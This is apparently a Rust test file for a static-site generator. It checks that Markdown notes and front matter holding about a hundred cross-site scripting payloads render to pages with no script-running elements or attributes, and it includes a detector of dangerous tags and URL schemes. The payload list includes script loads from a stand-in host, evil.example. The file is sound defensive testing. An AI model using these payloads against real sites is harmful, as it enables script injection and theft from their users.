//! What a note may hold, and a page may not: the ways past a filter that OWASP's
//! cheat sheet lists, by category, in inputs of our own.

use std::collections::BTreeMap;

use diptych::build::{Cache, build};
use diptych::output::Content;
use diptych::project::Project;
use html5gum::{Token, Tokenizer};

/// Raw HTML, and Markdown, that runs a script if it is let through.
const PAYLOADS: &[&str] = &[
    // Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x src='https://evil.example/x.js'></script>",
    "<script\n>alert(1)</script\n>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "</title><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=\"alert(1)\">",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a onmouseover=\"alert(1)\">x</a>",
    "<div onclick=alert(1) id=x>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p onpointerenter=alert(1) onanimationstart='x'>x</p>",
    // Addresses that run a script.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" \t javascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1)\">",
    "<video poster=javascript:alert(1)></video>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,x)",
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]\n\n[x]: javascript:alert(1) \"t\"",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)]]",
    "![[javascript:alert(1)]]",
    "[x](a.md \"\\\" onclick=alert(1) x=\\\"\")",
    "![x\" onerror=\"alert(1)](x.png)",
    // Elements that load another document or take input.
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><a xlink:href=\"javascript:alert(1)\">x",
    // Styles.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x",
    // Places where text becomes markup.
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```{title=\"\"><script>alert(1)</script>\"}\nx\n```",
    "# <script>alert(1)</script>",
    "# x {#\"onclick=alert(1)}",
    "> [!note\"onclick=alert(1)] <script>alert(1)</script>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| a | b | <img src=x onerror=alert(1)> |",
    "| Metric | Research | Production |\n|---|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> 1 ms | [2 ms](javascript:alert(1)) |",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "$<script>alert(1)</script>$",
    "Term <script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
    "==<script>alert(1)</script>== %%<script>%% ^\"onclick=alert",
    // What a sanitiser has let through elsewhere by parsing twice.
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<p id=\"--><img src=x onerror=alert(1)>\">",
    "<a title=\"</a><img src=x onerror=alert(1)>\">x</a>",
    "<table><tr><td>`<hr id=\"`<img src=x onerror=alert(1)>\n\n```\nx\n```",
];

/// Front matter that would break out of an element or attribute.
const METADATA: &str = "---
title: \"</title><script>alert(1)</script>\"
summary: \"\\\"><img src=x onerror=alert(1)>\"
status: \"<script>alert(1)</script>\"
owners: [\"<img src=x onerror=alert(1)>\"]
tags: ['\"onclick=\"alert(1)']
aliases: ['\"><script>alert(1)</script>']
links: { code: \"javascript:alert(1)\" }
---
";

/// What a start tag is: its element and its attributes.
type Seen = (String, BTreeMap<String, String>);

fn start_tags(html: &str) -> Vec<Seen> {
    let text = |it: &[u8]| String::from_utf8_lossy(it).into_owned();
    let mut tags = Vec::new();
    for token in Tokenizer::new(html).flatten() {
        if let Token::StartTag(tag) = token {
            let attributes = tag.attributes.iter();
            let attributes =
                attributes.map(|(name, value)| (text(name), text(&value.value)));
            tags.push((text(&tag.name), attributes.collect()));
        }
    }
    tags
}

/// What is wrong with an element of a page, if anything is.
fn harm((element, attributes): &Seen) -> Option<String> {
    const ELEMENTS: &[&str] = &[
        "applet",
        "base",
        "embed",
        "form",
        "frame",
        "frameset",
        "iframe",
        "math",
        "noscript",
        "object",
        "plaintext",
        "style",
        "svg",
        "template",
        "textarea",
        "xmp",
    ];
    // The theme's own map of a note.
    let map = element == "svg" && attributes.keys().eq(["aria-hidden", "viewbox"]);
    if ELEMENTS.contains(&&**element) && !map {
        return Some(format!("<{element}>"));
    }
    let own = |it: &str| !it.contains("evil") && !it.contains(':');
    let source = attributes.get("src").or(attributes.get("href"));
    if ["script", "link"].contains(&&**element) && !source.is_some_and(|it| own(it)) {
        return Some(format!("<{element}> of {source:?}"));
    }
    if attributes.get("http-equiv").is_some_and(|it| it == "refresh") {
        return Some("a refresh".to_owned());
    }
    attributes.iter().find_map(|(name, value)| {
        let address: String =
            value.chars().filter(|it| !it.is_whitespace() && !it.is_control()).collect();
        let address = address.to_lowercase();
        let runs = ["javascript:", "vbscript:", "data:text", "data:image/svg"];
        let told = ["title", "alt", "aria-label", "content", "id"].contains(&&**name);
        let harmful = name.starts_with("on")
            || name == "style"
            || name == "srcdoc"
            || name == "formaction"
            || (!told && runs.iter().any(|it| address.starts_with(it)));
        harmful.then(|| format!("{name}={value:?} of <{element}>"))
    })
}

/// The faults of all pages of a site.
fn harms(project: &Project) -> Vec<String> {
    let built = build(project, &mut Cache::default());
    let mut found = Vec::new();
    for (route, content) in &built.value {
        let Content::Text(text) = content else { continue };
        let page = route.as_str().ends_with(".html");
        // A page of an old address leads on by a refresh, which is the program's own.
        let text = text.get();
        let moved = text.contains("<title>Moved</title>");
        for tag in start_tags(&text).iter().filter(|_| page) {
            let harm = harm(tag).filter(|it| !(moved && it == "a refresh"));
            found.extend(harm.map(|it| format!("{route}: {it}")));
        }
    }
    found
}

#[test]
fn nothing_that_runs_a_script_comes_through() {
    let mut found = Vec::new();
    for payload in PAYLOADS {
        let mut project = Project { src: "content".into(), ..Project::default() };
        project.insert("content/x.png", "");
        project.insert("content/a.md", &format!("{METADATA}\n{payload}\n"));
        project
            .insert("content/b.md", &format!("Words {payload} words, and <b>raw</b>.\n"));
        project
            .insert("content/c.md", &format!("> - {payload}\n\n![[a]] ![[b]] [[a]]\n"));
        for harm in harms(&project) {
            found.push(format!("{payload}\n    {harm}"));
        }
    }
    assert!(found.is_empty(), "{} came through\n{}", found.len(), found.join("\n"));
}

#[test]
fn what_is_harmful_is_seen() {
    for html in [
        "<script>x</script>",
        "<img onerror=x>",
        "<a href=' JAVASCRIPT:x'>",
        "<p style=x>",
        "<iframe>",
        "<script src='https://evil.example/x.js'>",
        "<a href=data:text/html,x>",
    ] {
        assert!(start_tags(html).iter().any(|it| harm(it).is_some()), "{html}");
    }
    for html in
        ["<script src='assets/x.js'>", "<a href='a.html'>", "<img alt='onerror=x'>"]
    {
        assert!(start_tags(html).iter().all(|it| harm(it).is_none()), "{html}");
    }
}
